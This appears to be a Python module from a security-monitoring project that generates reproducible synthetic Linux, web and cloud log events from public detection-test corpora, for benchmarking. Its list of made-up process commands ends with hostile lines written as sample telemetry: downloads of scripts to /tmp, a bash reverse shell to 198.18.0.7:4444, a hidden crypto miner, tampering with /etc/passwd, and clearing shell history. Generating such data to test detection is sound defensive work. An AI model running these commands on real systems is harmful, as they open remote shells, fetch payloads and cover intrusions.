"""Events of Linux, the web and clouds for comparisons: the few real ones there are, varied until they are many.

The corpora hold some hundreds of each, which an engine that remembers values would know by heart. So each event is a
copy of a real one in which whatever differs from event to event is drawn anew: addresses, times, identifiers, numbers,
names of users, and of the web the address asked for. What rules look for stays. The processes of Linux are made up:
there are no real ones. The seed is fixed; the same corpora give the same events.

Addresses: RFC 5737 and 2544. People and hosts: invented.
"""

import re
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime, timedelta
from itertools import cycle
from pathlib import Path
from random import Random
from typing import Any

import orjson

from secmon.model.event import Frame
from secmon.parse.registry import KINDS
from secmon.pipeline import Lane, parse_frames

Event = dict[str, Any]
Events = Iterator[Event]

SEED = 2026
_START = datetime(2026, 9, 1, tzinfo=UTC)
_PEOPLE = (
    "zhang.san",
    "li.si",
    "wang.wu",
    "zhao.liu",
    "chen.jing",
    "sun.li",
    "wu.fang",
    "zhou.min",
    "xu.lei",
    "he.ping",
)
_WORDS = (
    "course",
    "news",
    "library",
    "exam",
    "student",
    "teacher",
    "score",
    "notice",
    "file",
    "image",
    "search",
    "user",
)
_VARIABLE = re.compile(
    r"(?P<time>\b20\d\d-\d\d-\d\d[T ]\d\d:\d\d:\d\d)"
    r"|(?P<ip>\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b)"
    r"|(?P<mail>\b[\w.+-]+(?=@[\w-]+\.))"
    r"|(?P<number>\b\d{4,}\b)"
    r"|(?P<id>\b[0-9a-f]{8,}\b)"
)
# Names by which events say of what log they are, and what rules compare whole.
_KEPT = frozenset({"event.dataset", "event.module", "event.code", "type", "eventName", "eventSource", "operationName"})


class Variation:
    """Draws what differs from event to event.

    Args:
        random: where from.
    """

    def __init__(self, random: Random) -> None:
        self._random = random
        self._moment = _START
        self._drawn: dict[str, Callable[[str], str]] = {
            "time": lambda written: self._moment.isoformat(sep=written[10])[:19],
            "ip": lambda _: self.address(),
            "mail": lambda _: self.person(),
            "id": lambda written: f"{random.getrandbits(4 * len(written)):0{len(written)}x}",
            "number": lambda written: f"{random.randrange(10 ** (len(written) - 1), 10 ** len(written))}",
        }

    def of(self, event: Mapping[str, Any]) -> Event:
        """Return a copy of an event, a little later than the one before."""
        self._moment += timedelta(milliseconds=self._random.randrange(1, 4000))
        return {name: value if name in _KEPT else self._value(value) for name, value in event.items()}

    def _value(self, value: Any) -> Any:
        if isinstance(value, str):
            return _VARIABLE.sub(self._drawn_for, value)
        if isinstance(value, dict):
            return self.of_members(value)
        return [self._value(each) for each in value] if isinstance(value, list) else value

    def of_members(self, members: Mapping[str, Any]) -> Event:
        """Return a copy of an object inside an event."""
        return {name: self._value(value) for name, value in members.items()}

    def _drawn_for(self, found: re.Match[str]) -> str:
        return self._drawn[str(found.lastgroup)](found[0])

    def address(self) -> str:
        """Return an address of a range that nobody has."""
        return f"198.{self._random.randrange(18, 20)}.{self._random.randrange(256)}.{self._random.randrange(1, 255)}"

    def person(self) -> str:
        """Return the login name of one of some thousand people."""
        return f"{self._random.choice(_PEOPLE)}{self._random.randrange(500)}"

    def path(self) -> str:
        """Return a path of a web site."""
        parts = [self._random.choice(_WORDS) for _ in range(self._random.randrange(1, 4))]
        return f"/{'/'.join(parts)}/{self._random.randrange(100_000)}"


def varied(seeds: list[Event], count: int, *, change: Callable[[Event, "Variation", Random], None]) -> Iterator[bytes]:
    """Yield so many lines: the real events in turns, each varied."""
    random = Random(SEED)  # noqa: S311  repeatable
    variation = Variation(random)
    for seed, _ in zip(cycle(seeds), range(count), strict=False):
        event = variation.of(seed)
        change(event, variation, random)
        yield orjson.dumps(event) + b"\n"


def cloud(corpora: Path, count: int) -> Iterator[bytes]:
    """Yield audit events of clouds and of services in them: test cases of Panther's rules, nested as they came."""
    seeds = [
        {"event.dataset": dataset, **case["log"]}
        for name, dataset in _CLOUDS.items()
        for line in (corpora / "panther" / f"{name}.cases.jsonl").read_bytes().splitlines()
        if isinstance((case := orjson.loads(line))["log"], dict)
    ]
    return varied(_mixed(seeds), count, change=_other_id)


_CLOUDS = {
    "AWS.CloudTrail": "aws.cloudtrail",
    "Azure.Audit": "azure.signinlogs",
    "Azure.MonitorActivity": "azure.activitylogs",
    "GCP.AuditLog": "gcp.audit",
    "GSuite.ActivityEvent": "google_workspace.admin",
    "GitHub.Audit": "github.audit",
    "Okta.SystemLog": "okta.system",
    "OneLogin.Events": "onelogin.events",
    "Amazon.EKS.Audit": "kubernetes.audit_logs",
}


def web(corpora: Path, count: int) -> Iterator[bytes]:
    """Yield requests under Sigma's names: real access lines, attacks among them; every third through a proxy."""
    lines = [line for path in sorted((corpora / "crowdsec-hub").glob("*/*.log")) for line in _lines(path)]
    lines += [
        case["access_log"]
        for line in (corpora / "gotestwaf" / "payloads.jsonl").read_bytes().splitlines()
        if "access_log" in (case := orjson.loads(line))
    ]
    seeds = [_request(found, number) for number, line in enumerate(lines) if (found := _ACCESS.search(line))]
    return varied(_mixed(seeds), count, change=_other_address)


_ACCESS = re.compile(
    r"(?P<ip>\d+\.\d+\.\d+\.\d+) \S+ (?P<user>\S+) \[[^\]]*\] "
    r'"(?P<method>[A-Z]+) (?P<uri>\S+) HTTP/(?P<version>[\d.]+)" '
    r'(?P<status>\d{3}) (?P<bytes>\d+|-) "(?P<referer>[^"]*)" "(?P<agent>[^"]*)"'
)
_PROXIED = 3


def _request(found: re.Match[str], number: int) -> Event:
    names = {
        "timestamp": "2026-09-01T00:00:00Z",
        "c-ip": found["ip"],
        "cs-username": found["user"],
        "cs-method": found["method"],
        "cs-version": f"HTTP/{found['version']}",
        "cs-host": "www.example.edu.cn",
        "sc-status": int(found["status"]),
        "sc-bytes": int(found["bytes"].replace("-", "0")),
        "cs-referer": found["referer"],
    }
    if number % _PROXIED == 0:
        return {"event.module": "squid", "c-uri": found["uri"], "c-useragent": found["agent"], **names}
    return {"event.dataset": "nginx.access", "cs-uri": found["uri"], "cs-user-agent": found["agent"], **names}


def _other_address(event: Event, variation: Variation, random: Random) -> None:
    """Ask for another address nine times of ten, as visitors do; the attacks stay with the others."""
    name = "c-uri" if "c-uri" in event else "cs-uri"
    if random.random() < _USUAL:
        event[name] = f"{variation.path()}?id={random.randrange(10**6)}&from={random.choice(_WORDS)}"
    stem, _, query = event[name].partition("?")
    prefix = name.partition("-")[0]
    event |= {f"{prefix}-uri-stem": stem, f"{prefix}-uri-query": query}


_USUAL = 0.9


def linux(corpora: Path, count: int) -> Iterator[bytes]:
    """Yield syslog lines as our parser reads them and audit records, both real, and processes, made up."""
    logs = [line for path in sorted((corpora / "crowdsec-hub").glob("*/*.log")) for line in _lines(path)]
    syslog = _parsed([line for line in logs if _SYSLOG.match(line)])
    records = [_audit_record(line) for line in logs if line.startswith("type=")]
    processes = [_process(command) for command in _COMMANDS]
    random = Random(SEED)  # noqa: S311  repeatable
    seeds = [random.choice(random.choices((syslog, records, processes), (5, 2, 3))[0]) for _ in range(4_000)]
    return varied(seeds, count, change=_other_process)


_SYSLOG = re.compile(r"[A-Z][a-z]{2} [ \d]\d \d\d:\d\d:\d\d \S+ [\w/.-]+(\[\d+\])?: ")
_PAIR = re.compile(r'(\w+)=("[^"]*"|\S+)')


def _parsed(lines: list[str]) -> list[Event]:
    frames = [Frame(line.encode(), number, number, number) for number, line in enumerate(lines, start=1)]
    lane = Lane(source="bench", generation="", kind=KINDS["syslog"], zone=UTC)
    parsed = parse_frames(frames, lane, now=_START + timedelta(days=100))
    return [{name: value for name, value in event.items() if name != "event.original"} for event, _, _ in parsed.events]


def _audit_record(line: str) -> Event:
    return {"event.dataset": "auditd.log", **{name: value.strip('"') for name, value in _PAIR.findall(line)}}


def _process(command: str) -> Event:
    image = command.split(maxsplit=1)[0]
    return {
        "event.dataset": "sysmon_linux.log",
        "event.code": "1",
        "UtcTime": "2026-09-01 00:00:00.000",
        "ProcessGuid": "{3f2b6c1a-5a07-69a4-2b01-000000001700}",
        "ProcessId": "41276",
        "Image": image,
        "CommandLine": command,
        "CurrentDirectory": "/home/zhang.san",
        "User": "zhang.san",
        "ParentProcessId": "41002",
        "ParentImage": "/usr/bin/bash",
        "ParentCommandLine": "-bash",
    }


def _other_process(event: Event, variation: Variation, random: Random) -> None:
    """Give a process a user, a folder and an argument of its own."""
    if "CommandLine" in event:
        person = variation.person()
        event |= {"User": person, "CurrentDirectory": f"/home/{person}/{random.choice(_WORDS)}"}
        event["CommandLine"] += f" /srv/{random.choice(_WORDS)}/{random.randrange(10**6)}"


_COMMANDS = (
    *(f"/usr/bin/{name}" for name in ("ls -la", "cat", "grep -r error", "tail -n 100", "sort -u", "awk {print}", "id")),
    *(
        f"/usr/bin/{name}"
        for name in ("git status", "git pull --rebase", "ssh-keygen -lf", "rsync -a", "df -h", "du -sh")
    ),
    *(
        f"/usr/bin/{name}"
        for name in ("apt-get -qq update", "dpkg --status", "systemctl status nginx", "journalctl -u")
    ),
    *(f"/usr/bin/{name}" for name in ("python3 -m http.server", "python3 manage.py migrate", "php -f", "node app.js")),
    *(
        f"/usr/sbin/{name}"
        for name in ("logrotate /etc/logrotate.conf", "cron -f", "useradd -m", "nginx -t", "iptables -L")
    ),
    *(
        f"/usr/bin/{name}"
        for name in ("tar -czf backup.tgz", "gzip -9", "find . -name *.log", "chmod 644", "chown www-data")
    ),
    "/usr/bin/curl -s -o /tmp/x https://198.18.0.7/x.sh",
    "/usr/bin/wget -q http://198.18.0.7/a -O /tmp/a",
    "/usr/bin/bash -i >& /dev/tcp/198.18.0.7/4444 0>&1",
    "/usr/bin/base64 -d /tmp/payload.txt",
    "/usr/bin/chattr -i /etc/passwd",
    "/usr/bin/nohup /tmp/.x/miner -o stratum+tcp://pool.example.com:3333",
    "/usr/bin/crontab /tmp/crontab.new",
    "/usr/bin/history -c",
)


def _other_id(event: Event, _variation: Variation, random: Random) -> None:
    """Give an event an identifier of its own: some of the real ones hold nothing else that could vary."""
    event["id_of_event"] = f"{random.getrandbits(96):024x}"


def _mixed(seeds: list[Event]) -> list[Event]:
    mixed = list(seeds)
    Random(SEED).shuffle(mixed)  # noqa: S311  repeatable
    return mixed


def _lines(path: Path) -> list[str]:
    return path.read_text("utf-8", "replace").splitlines()
